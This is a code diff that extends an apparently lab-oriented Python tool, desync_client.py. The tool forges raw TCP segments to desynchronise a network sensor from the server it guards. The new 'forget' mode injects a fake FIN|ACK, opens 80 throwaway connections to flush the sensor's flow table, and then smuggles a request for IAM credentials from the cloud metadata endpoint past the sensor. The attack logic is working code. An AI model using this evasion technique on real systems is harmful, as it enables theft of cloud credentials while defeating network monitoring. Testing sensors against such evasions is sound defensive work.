@@ -6,12 +6,15 @@ Content-Length is exactly the credentials request: a sensor that reads COVER as 
 the stream reads the credentials request as its body. Prints the replies' status lines.
 Needs CAP_NET_RAW (raw and packet sockets).
 
-  desync_client.py SRC DST MODE        MODE: plain | dup | syn | rst | finsyn
+  desync_client.py SRC DST MODE        MODE: plain | dup | syn | rst | finsyn | forget
   plain: no injection (the control)
   dup:   COVER in a segment ending at the first byte of the stream (an old duplicate)
   syn:   a SYN carrying COVER ending at the first byte (the server, established, drops it)
   rst:   after a POST head, a RST carrying the last 4 body bytes again (seq != rcv_nxt)
   finsyn: a FIN without ACK, then a SYN carrying COVER, both dropped by the server
+  forget: a FIN|ACK at the next byte acking unsent data (the server drops it, a sensor may
+          take it as the close), then FORGET_CONNECTIONS other connections opened and closed
+          (to push the tuple out of whatever a sensor remembers), then a SYN carrying COVER
 """
 import random
 import socket
@@ -23,6 +26,7 @@ import time
 CREDS = "/latest/meta-data/iam/security-credentials/nfq-lab-role"
 EVIL = f"GET {CREDS} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n".encode()
 COVER = b"GET /latest/meta-data/ami-id HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(EVIL)
+FORGET_CONNECTIONS = 80  # more than the daemon remembers with --flow-table-cap 16 (4 x 16)
 
 
 def csum(data):
@@ -95,6 +99,16 @@ def main():
         # that ends at the next byte (the server, established, drops it too)
         inject(isn1, 0x01, b"")
         time.sleep(0.1)
+        inject(isn1 - len(COVER) - 1, 0x02, COVER)
+        time.sleep(0.2)
+        s.send(EVIL)
+    elif mode == "forget":
+        raw.sendto(tcp_packet(src, dst, sport, 80, isn1, (ack + 100000) & 0xFFFFFFFF, 0x11, b""), (dst, 0))
+        time.sleep(0.1)
+        for _ in range(FORGET_CONNECTIONS):
+            other = socket.create_connection((dst, 80), timeout=5, source_address=(src, 0))
+            other.close()
+        time.sleep(0.2)
         inject(isn1 - len(COVER) - 1, 0x02, COVER)
         time.sleep(0.2)
         s.send(EVIL)
